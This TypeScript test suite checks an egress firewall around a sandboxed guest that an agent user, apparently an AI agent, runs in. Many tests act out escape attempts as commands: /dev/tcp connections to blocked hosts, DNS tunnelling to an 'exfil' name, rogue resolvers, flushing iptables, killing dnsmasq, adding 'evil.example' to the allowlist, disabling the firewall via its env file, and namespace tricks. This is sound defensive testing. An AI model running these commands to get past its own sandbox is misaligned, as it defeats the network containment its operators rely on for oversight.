/**
 * The egress firewall, attacked for real: a rendered guest in network and mount namespaces, the
 * agent user trying to get out, each attack paired with a check that the allowed work still works.
 * Changing the allowlist of a running guest, GitHub's networks, the watcher, verify and the
 * controls with the firewall down: firewall-apply.test.ts. Needs root (see test/README.md).
 */
import { firewallSuite, records } from "./firewall-suite";
import { guestNode, waitFor } from "./lib";

const { h, tcp, tls, udp, dig, state } = firewallSuite();

describe("IPv4 hosts outside the allowlist", () => {
    test("allowed: an allowlisted name answers on its port", async () => {
        const r = await tls("allowed.test.example");
        expect(r.stdout).toBe("ok 198.51.100.10 443 sni=allowed.test.example\n");
    });

    test("attack: TCP to a host that is not allowlisted is refused at once", async () => {
        const r = await tcp("198.51.100.66", 443);
        expect(r.code).not.toBe(0);
        expect(r.stdout).toBe("");
        // Refused (a reset), not dropped: a dropped connection ends in bash's own timeout instead.
        expect(r.stderr).toMatch(/Connection refused/);
    });

    test("attack: UDP to a host that is not allowlisted gets no answer", async () => {
        const r = await udp("198.51.100.66", 9999);
        expect(r.stdout).not.toContain("ok udp");
        expect(r.code).not.toBe(0);
    });

    test("allowed: UDP to the local resolver works", async () => {
        expect((await dig("allowed.test.example")).answers).toEqual(["198.51.100.10"]);
    });

    test("attack: UDP (QUIC) to an allowlisted host is refused: entries are TCP only", async () => {
        const r = await udp("198.51.100.10", 443);
        expect(r.stdout).not.toContain("ok udp");
    });

    test("attack: ICMP echo to a host outside the allowlist (and to an allowlisted one) fails", async () => {
        // ping's own failure (1: no reply, 2: send refused), not a missing ping (127).
        const out = await h.exec("ping -c1 -W1 198.51.100.66");
        expect([1, 2]).toContain(out.code);
        const allowed = await h.exec("ping -c1 -W1 198.51.100.10");
        expect([1, 2]).toContain(allowed.code);
    });

    test("allowed: ICMP on loopback works", async () => {
        expect((await h.exec("ping -c1 -W1 127.0.0.1")).code).toBe(0);
    });

    test("attack: connecting to an allowlisted name's address before any lookup fails; after the lookup it works", async () => {
        const before = await tls("late.test.example", { connect: "198.51.100.41" });
        expect(before.stdout).toBe("");
        expect((await dig("late.test.example")).answers).toEqual(["198.51.100.41"]);
        const after = await tls("late.test.example", { connect: "198.51.100.41" });
        expect(after.stdout).toBe("ok 198.51.100.41 443 sni=late.test.example\n");
    });
});

describe("IPv6", () => {
    test("attack: TCP over IPv6 is refused at once", async () => {
        const r = await tcp(h.internetAddress6, 443);
        expect(r.stderr).toMatch(/Connection refused|Permission denied/);
        expect((await tls(h.internetAddress6)).stdout).toBe("");
        const named = await tls("allowed.test.example", { connect: "fd00:ccf1::10" });
        expect(named.stdout).toBe("");
    });

    test("attack: the resolver hands out no AAAA record, even for an allowlisted name", async () => {
        const r = await dig("allowed.test.example", { type: "AAAA" });
        expect(r.answers).toEqual([]);
    });

    test("allowed: the same name over IPv4 works", async () => {
        expect((await tls("allowed.test.example")).stdout).toContain("ok 198.51.100.10");
    });
});

describe("DNS", () => {
    test("attack: a foreign resolver over UDP is unreachable for the agent", async () => {
        const r = await dig("blocked.test.example", { server: h.dnsAddress });
        expect(r.answers).toEqual([]);
        expect(h.upstreamQueries()).not.toContain("blocked.test.example");
    });

    test("attack: a foreign resolver over TCP is unreachable for the agent", async () => {
        const r = await dig("blocked.test.example", { server: h.dnsAddress, tcp: true });
        expect(r.answers).toEqual([]);
        const raw = await tcp(h.dnsAddress, 53);
        expect(raw.stderr).toMatch(/Connection refused/);
        expect(h.upstreamQueries()).not.toContain("blocked.test.example");
    });

    test("attack: root cannot reach a foreign resolver either (only the resolver's user can)", async () => {
        const r = await dig("blocked.test.example", { server: h.dnsAddress, user: "root" });
        expect(r.answers).toEqual([]);
    });

    test("attack: a name that is not allowlisted gets NXDOMAIN and is never forwarded", async () => {
        const r = await dig("blocked.test.example");
        expect(r.status).toBe("NXDOMAIN");
        expect((await tls("blocked.test.example")).stdout).toBe("");
        expect(h.upstreamQueries()).not.toContain("blocked.test.example");
    });

    test("attack: a TXT query carrying data (tunnelling) is answered locally and never forwarded", async () => {
        const r = await dig("bWFkZSB5b3UgbG9vaw.exfil.test.example", { type: "TXT", tcp: true });
        expect(r.status).toBe("NXDOMAIN");
        expect(h.upstreamQueries().some((q) => q.includes("exfil"))).toBe(false);
    });

    test("attack: a subdomain of a plain (exact) entry is refused and never forwarded", async () => {
        const r = await dig("sub.allowed.test.example");
        expect(r.status).toBe("NXDOMAIN");
        expect(h.upstreamQueries()).not.toContain("sub.allowed.test.example");
    });

    test("allowed: the plain entry itself is forwarded and resolves", async () => {
        await dig("allowed.test.example");
        expect(h.upstreamQueries()).toContain("allowed.test.example");
    });

    test("attack: a forwarding stub on 127.0.0.53 (like systemd-resolved's) is no way around", async () => {
        const stub = await h.root(
            `dnsmasq --no-resolv --no-hosts --listen-address=127.0.0.53 --bind-interfaces --server=${h.dnsAddress} --user=root --pid-file=/run/stub.pid`,
        );
        expect(stub.code).toBe(0);
        try {
            const viaStub = await dig("stub-bypass.test.example", { server: "127.0.0.53" });
            expect(viaStub.answers).toEqual([]);
            const stubAsRoot = await dig("stub-bypass.test.example", { server: "127.0.0.53", user: "root" });
            expect(stubAsRoot.answers).toEqual([]);
            expect(h.upstreamQueries()).not.toContain("stub-bypass.test.example");
        } finally {
            await h.root("kill $(cat /run/stub.pid)");
        }
    });

    test("allowed: a CNAME chain from an allowlisted name opens its target address", async () => {
        const r = await dig("alias.test.example");
        expect(r.answers).toContain("198.51.100.70");
        expect((await tls("alias.test.example")).stdout).toBe("ok 198.51.100.70 443 sni=alias.test.example\n");
    });
});

describe("ports", () => {
    test("attack: an allowlisted host on a port its entry does not allow is refused", async () => {
        const r = await tcp("allowed.test.example", 8080);
        expect(r.stdout).toBe("");
        expect(r.stderr).toMatch(/Connection refused/);
        expect((await tcp("allowed.test.example", 22)).stdout).toBe("");
    });

    test("allowed: an entry with ports 22,443 is reachable on both", async () => {
        expect((await tcp("git.test.example", 22)).stdout).toBe("ok 198.51.100.20 22\n");
        expect((await tls("git.test.example")).stdout).toBe("ok 198.51.100.20 443 sni=git.test.example\n");
        expect((await tcp("git.test.example", 80)).stdout).toBe("");
    });

    test("allowed: a CIDR entry opens its network on its port only", async () => {
        expect((await tcp("203.0.113.5", 8080)).stdout).toBe("ok 203.0.113.5 8080\n");
        expect((await tls("203.0.113.5")).stdout).toBe("");
    });

    test("attack: an address just outside an allowlisted CIDR is refused", async () => {
        expect((await tcp("203.0.113.20", 8080)).stdout).toBe("");
    });
});

describe("names that change", () => {
    test("a rotating name: the new address is reachable at once", async () => {
        expect((await tls("rotate.test.example")).stdout).toBe("ok 198.51.100.40 443 sni=rotate.test.example\n");
        h.setRecords(records.replace("rotate.test.example         A     198.51.100.40", "rotate.test.example A 198.51.100.45"));
        // Once the name's server says so: the new address, through the guest's resolver.
        expect(await waitFor(async () => (await dig("rotate.test.example")).answers.includes("198.51.100.45"), 5000)).toBe(true);
        expect((await tls("rotate.test.example")).stdout).toBe("ok 198.51.100.45 443 sni=rotate.test.example\n");
    });

    test("a wildcard entry covers subdomains at any depth", async () => {
        expect((await tls("a.wild.test.example")).stdout).toBe("ok 198.51.100.30 443 sni=a.wild.test.example\n");
        expect((await tls("deep.b.wild.test.example")).stdout).toBe("ok 198.51.100.31 443 sni=deep.b.wild.test.example\n");
    });

    test("attack: a wildcard does not cover the bare domain", async () => {
        expect((await dig("wild.test.example")).status).toBe("NXDOMAIN");
        expect((await tls("198.51.100.32")).stdout).toBe("");
    });
});

describe("the agent against the firewall itself", () => {
    test("attack: the agent cannot flush rules, change policies or edit sets", async () => {
        for (const cmd of ["iptables-legacy -F", "iptables-legacy -P OUTPUT ACCEPT", "ip6tables-legacy -P OUTPUT ACCEPT", "iptables -I OUTPUT 1 -j ACCEPT", "ipset flush ccfw-d-443", "ipset add ccfw-d-443 198.51.100.66"]) {
            const r = await h.exec(cmd);
            expect([cmd, r.code]).not.toEqual([cmd, 0]);
        }
        expect((await h.root("cc-sandbox-firewall status")).code).toBe(0);
        expect((await tls("198.51.100.66")).stdout).toBe("");
    });

    test("rules root adds through nftables (the default `iptables`) open nothing the firewall closes", async () => {
        // The firewall's rules are in the legacy tables; a packet passes both, so an ACCEPT or an
        // open policy added the other way (by another tool) is no way around them.
        const add = await h.root("iptables -I OUTPUT 1 -j ACCEPT && iptables -P OUTPUT ACCEPT && iptables -t nat -I OUTPUT 1 -j ACCEPT");
        expect(add.code).toBe(0);
        try {
            expect((await tls("198.51.100.66")).stdout).toBe("");
            expect((await tls("cotenant.test.example", { connect: "198.51.100.10" })).stdout).toBe("");
            expect((await tls("allowed.test.example")).stdout).toBe("ok 198.51.100.10 443 sni=allowed.test.example\n");
        } finally {
            await h.root("iptables -F OUTPUT; iptables -t nat -F OUTPUT");
        }
    });

    test("attack: the agent cannot stop, reconfigure or replace the resolver", async () => {
        const pid = (await h.root("cat /run/cc-sandbox/firewall/dnsmasq.pid")).stdout.trim();
        expect(pid).toMatch(/^\d+$/);
        expect((await h.exec(`kill ${pid}`)).code).not.toBe(0);
        expect((await h.exec("echo server=/#/192.0.2.53 >>/run/cc-sandbox/firewall/dnsmasq.conf")).code).not.toBe(0);
        expect((await h.exec("echo 'nameserver 192.0.2.53' >/etc/resolv.conf")).code).not.toBe(0);
        // a second resolver on the agent's own port cannot reach upstream either
        const own = await h.exec(`timeout 3 dnsmasq -d --no-resolv --port=5353 --listen-address=127.0.0.1 --server=${h.dnsAddress} --user=agent & sleep 0.5; dig +time=1 +tries=1 -p 5353 @127.0.0.1 agent-resolver.test.example; wait`);
        expect(own.stdout).not.toMatch(/IN\s+A\s+\d/);
        expect(h.upstreamQueries()).not.toContain("agent-resolver.test.example");
        expect((await dig("allowed.test.example")).answers).toEqual(["198.51.100.10"]);
    });

    test("attack: the agent cannot edit the allowlist, the sandbox env or the state file", async () => {
        expect((await h.exec("echo 'evil.example 443' >>/etc/cc-sandbox/allowlist")).code).not.toBe(0);
        expect((await h.exec("echo CC_FIREWALL_ENABLED=0 >>/etc/cc-sandbox/sandbox.env")).code).not.toBe(0);
        expect((await h.exec("echo 'ON 9999999999' >/run/cc-sandbox/firewall.state")).code).not.toBe(0);
        expect((await h.root("cat /etc/cc-sandbox/allowlist")).stdout).not.toContain("evil.example");
    });

    test("attack: the agent cannot run the firewall's own commands", async () => {
        for (const cmd of ["cc-sandbox-firewall down", "echo 'blocked.test.example 443' | cc-sandbox-firewall apply -", "cc-sandbox-firewall up"]) {
            const r = await h.exec(cmd);
            expect(r.code).not.toBe(0);
            expect(r.stderr).toMatch(/must be run as root/);
        }
        expect((await dig("blocked.test.example")).status).toBe("NXDOMAIN");
    });

    test("attack: flushing iptables inside the agent's own user+net namespace changes nothing outside it", async () => {
        const r = await h.exec("unshare -rn bash -c 'iptables -P OUTPUT ACCEPT 2>/dev/null; iptables -F 2>/dev/null; exec 3<>/dev/tcp/198.51.100.66/443 && echo connected'");
        expect(r.stdout).not.toContain("connected");
        expect((await tls("198.51.100.66")).stdout).toBe("");
        expect((await h.root("cc-sandbox-firewall status")).code).toBe(0);
    });

    test("attack: the agent cannot open the firewall's lock (held, it would stall apply and the watcher)", async () => {
        expect((await h.root("ls /run/cc-sandbox-locks/firewall.lock && stat -c %a /run/cc-sandbox-locks")).stdout).toBe("/run/cc-sandbox-locks/firewall.lock\n700\n");
        const held = await h.exec("flock -n /run/cc-sandbox-locks/firewall.lock true");
        expect(held.code).not.toBe(0);
        expect(held.stderr).toContain("Permission denied");
    });

    test("the agent can read the state: the firewall is ON", async () => {
        expect(await state()).toBe("ON");
        const status = await h.exec("cc-sandbox-firewall status");
        expect([status.code, status.stdout]).toEqual([0, expect.stringMatching(/^ON /)]);
    });
});

describe("inbound", () => {
    test("attack: a connection in to a guest port other than SSH is dropped", async () => {
        const listen = `require("net").createServer((s) => s.end("guest 8080\\n")).listen(8080)`;
        await h.root(`setsid -f ${guestNode} -e '${listen}' </dev/null >/dev/null 2>&1`);
        expect(await waitFor(async () => (await h.root("ss -ltn | grep -c ':8080 '")).stdout.trim() === "1", 5000)).toBe(true);
        const blocked = await h.internet(`timeout 3 bash -c 'exec 3<>/dev/tcp/${h.guestAddress}/8080 && head -1 <&3'`);
        expect(blocked.stdout).not.toContain("guest");
    });

    test("allowed: SSH's port (the guest's sshd) answers from the host side", async () => {
        const ssh = await h.internet(`timeout 3 bash -c 'exec 3<>/dev/tcp/${h.guestAddress}/22 && head -1 <&3'`);
        expect(ssh.stdout).toMatch(/^SSH-2\.0-OpenSSH/);
    });
});

describe("denied", () => {
    test("lists a blocked destination with the name that last resolved to it, and refused names", async () => {
        await tcp("git.test.example", 8080);
        await dig("never-allowed.test.example");
        const r = await h.root("cc-sandbox-firewall denied");
        expect(r.code).toBe(0);
        expect(r.stdout).toMatch(/198\.51\.100\.20\s+tcp\/8080\s+git\.test\.example\s+uid=1001/);
        expect(r.stdout).toMatch(/never-allowed\.test\.example/);
    });

    test("lists refused names with blanks and control characters too, escaped, never raw", async () => {
        for (const name of ["sp\\032ace.test.example", "bell\\007.test.example", "esc\\027[31mred.test.example", "dot\\.inlabel.test.example"]) {
            expect((await dig(`'${name}'`)).status).toBe("NXDOMAIN");
        }
        const r = await h.root("cc-sandbox-firewall denied");
        expect(r.code).toBe(0);
        expect(r.stdout).toMatch(/^ {2}sp\\032ace\.test\.example +x1 /m);
        // dnsmasq logs names with control characters as "<name unprintable>": three of them here.
        expect(r.stdout).toMatch(/^ {2}<name unprintable> +x[3-9]/m);
        expect(r.stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f]/);
    });
});
